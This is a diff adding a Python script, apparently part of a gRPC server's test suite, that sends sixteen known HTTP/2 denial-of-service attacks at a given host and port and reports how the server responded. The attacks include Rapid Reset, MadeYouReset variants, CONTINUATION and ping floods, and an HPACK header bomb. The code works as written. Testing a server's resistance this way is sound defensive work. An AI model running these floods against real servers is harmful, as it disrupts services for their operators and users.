@@ -1,0 +1,250 @@
+"""What hostile HTTP/2 clients do, frame by frame. As a program: `attacks.py HOST PORT NAME SECONDS`, which repeats one
+attack and prints what became of its connections as JSON."""
+
+import json
+import socket
+import struct
+import sys
+import time
+
+from test_foreign import SHOP
+
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
+GOAWAY = 7
+END_STREAM, ACK, END_HEADERS = 1, 1, 4
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+INITIAL_WINDOW_SIZE = 4
+CANCEL = 8
+#: How long one connection is attacked before the next one is opened.
+ROUND = 3.0
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
+
+
+def _text(text):
+    return bytes([len(text)]) + text.encode()
+
+
+def head(method="Repeat"):
+    """HPACK without a table: a gRPC call."""
+    return (
+        b"\x83\x86"
+        + b"\x04" + _text(f"{SHOP}/{method}")
+        + b"\x01" + _text("localhost")
+        + b"\x0f\x10" + _text("application/grpc")
+        + b"\x00" + _text("te") + _text("trailers")
+    )
+
+
+def settings(**values):
+    return b"".join(struct.pack(">HI", number, value) for number, value in values.items())
+
+
+class Connection:
+    """A connection that has said hello. Writing tells whether the server still listens."""
+
+    def __init__(self, host, port, window=65_535):
+        self.socket = socket.create_connection((host, int(port)), timeout=5)
+        self.stream = -1
+        self.goaway = None
+        self.received = b""
+        self.send(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, window)))
+
+    def send(self, data):
+        self.socket.sendall(data)
+
+    def next_stream(self):
+        self.stream += 2
+        return self.stream
+
+    def open(self, flags=END_HEADERS, method="Repeat"):
+        stream = self.next_stream()
+        return stream, frame(HEADERS, flags, stream, head(method))
+
+    def drain(self):
+        """Takes what has come, without waiting. Raises when the server has closed the connection."""
+        self.socket.setblocking(False)
+        try:
+            while True:
+                piece = self.socket.recv(1 << 20)
+                if not piece:
+                    raise ConnectionResetError("closed")
+                self.received += piece
+                self._look()
+        except BlockingIOError:
+            pass
+        finally:
+            self.socket.settimeout(5)
+
+    def _look(self):
+        while len(self.received) >= 9:
+            length = int.from_bytes(self.received[:3], "big")
+            if len(self.received) < 9 + length:
+                return
+            if self.received[3] == GOAWAY:
+                self.goaway = struct.unpack(">I", self.received[13:17])[0]
+            self.received = self.received[9 + length :]
+
+
+def note(count):
+    """A request for so many answers of 1 000 bytes."""
+    from shop import Note
+
+    message = Note(text="b" * 1_000, count=count).SerializeToString()
+    return struct.pack(">BI", 0, len(message)) + message
+
+
+# Each attack sends one burst; it is repeated until the connection is closed or its round is over.
+
+
+def rapid_reset(c):
+    for _ in range(100):
+        stream, opened = c.open()
+        c.send(opened + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
+
+
+def made_you_reset_by_empty_window(c):
+    for _ in range(100):
+        stream, opened = c.open()
+        c.send(opened + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0)))
+
+
+def made_you_reset_by_large_window(c):
+    for _ in range(100):
+        stream, opened = c.open()
+        c.send(opened + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 2**31 - 1)))
+
+
+def made_you_reset_by_priority_size(c):
+    for _ in range(100):
+        stream, opened = c.open()
+        c.send(opened + frame(PRIORITY, 0, stream, b"\0" * 4))
+
+
+def made_you_reset_by_priority_on_itself(c):
+    for _ in range(100):
+        stream, opened = c.open()
+        c.send(opened + frame(PRIORITY, 0, stream, struct.pack(">IB", stream, 1)))
+
+
+def made_you_reset_by_data_after_the_end(c):
+    for _ in range(100):
+        stream, opened = c.open(END_HEADERS | END_STREAM)
+        c.send(opened + frame(DATA, 0, stream, b"x"))
+
+
+def made_you_reset_by_headers_after_the_end(c):
+    for _ in range(100):
+        stream, opened = c.open(END_HEADERS | END_STREAM)
+        c.send(opened + frame(HEADERS, END_HEADERS, stream, head()))
+
+
+def continuation_flood(c):
+    if c.stream < 0:
+        c.send(frame(HEADERS, 0, c.next_stream(), head()))
+    # A field that a server must decode, 1 000 times in a frame.
+    c.send(frame(CONTINUATION, 0, c.stream, (b"\x00" + _text("x") + _text("y")) * 1_000) * 20)
+
+
+def header_bomb(c):
+    # A large field in the table, and 3 000 references to it.
+    field = b"\x40" + _text("x") + b"\x7f" + b"\x81\x1e" + b"y" * 4_000
+    c.send(frame(HEADERS, END_HEADERS, c.next_stream(), head() + field + b"\xbe" * 3_000))
+
+
+def empty_data_frames(c):
+    if c.stream < 0:
+        stream, opened = c.open()
+        c.send(opened)
+    c.send(frame(DATA, 0, c.stream) * 5_000)
+
+
+def settings_flood(c):
+    c.send(frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 65_535)) * 2_000)
+
+
+def ping_flood(c):
+    c.send(frame(PING, 0, 0, b"12345678") * 2_000)
+
+
+def unread_pings(c):
+    # The answers are never read, so they pile up at the server.
+    c.unread = True
+    c.send(frame(PING, 0, 0, b"12345678") * 2_000)
+
+
+def stalled_windows(c):
+    # Answers are asked for and there is no window for them.
+    if c.stream < 100:
+        stream, opened = c.open()
+        c.send(opened + frame(DATA, END_STREAM, stream, note(100_000)))
+    else:
+        c.send(frame(PING, 0, 0, b"12345678"))
+        time.sleep(0.05)
+
+
+def window_by_bytes(c):
+    # A window that grows byte by byte: many small writes for little.
+    if c.stream < 20:
+        stream, opened = c.open()
+        c.send(opened + frame(DATA, END_STREAM, stream, note(100_000)))
+    c.send(b"".join(frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 1)) for stream in range(1, c.stream + 1, 2)) * 20)
+
+
+def garbage(c):
+    c.send(bytes(range(256)) * 64)
+
+
+ATTACKS = [
+    rapid_reset,
+    made_you_reset_by_empty_window,
+    made_you_reset_by_large_window,
+    made_you_reset_by_priority_size,
+    made_you_reset_by_priority_on_itself,
+    made_you_reset_by_data_after_the_end,
+    made_you_reset_by_headers_after_the_end,
+    continuation_flood,
+    header_bomb,
+    empty_data_frames,
+    settings_flood,
+    ping_flood,
+    unread_pings,
+    stalled_windows,
+    window_by_bytes,
+    garbage,
+]
+
+
+def attack(host, port, name, seconds):
+    burst = next(one for one in ATTACKS if one.__name__ == name)
+    outcome = {"connections": 0, "closed": 0, "goaway": {}}
+    end = time.monotonic() + seconds
+    while time.monotonic() < end:
+        try:
+            connection = Connection(host, port, window=0 if name in ("stalled_windows", "window_by_bytes") else 65_535)
+        except OSError:
+            continue
+        outcome["connections"] += 1
+        round_end = min(time.monotonic() + ROUND, end)
+        try:
+            while time.monotonic() < round_end:
+                burst(connection)
+                if not getattr(connection, "unread", False):
+                    connection.drain()
+        except (BrokenPipeError, ConnectionResetError):
+            outcome["closed"] += 1
+        except TimeoutError:
+            # The server reads no more: the attacker waits, not the server.
+            outcome["held"] = outcome.get("held", 0) + 1
+        if connection.goaway is not None:
+            code = str(connection.goaway)
+            outcome["goaway"][code] = outcome["goaway"].get(code, 0) + 1
+        connection.socket.close()
+    return outcome
+
+
+if __name__ == "__main__":
+    _, host, port, name, seconds = sys.argv
+    print(json.dumps(attack(host, port, name, float(seconds))))
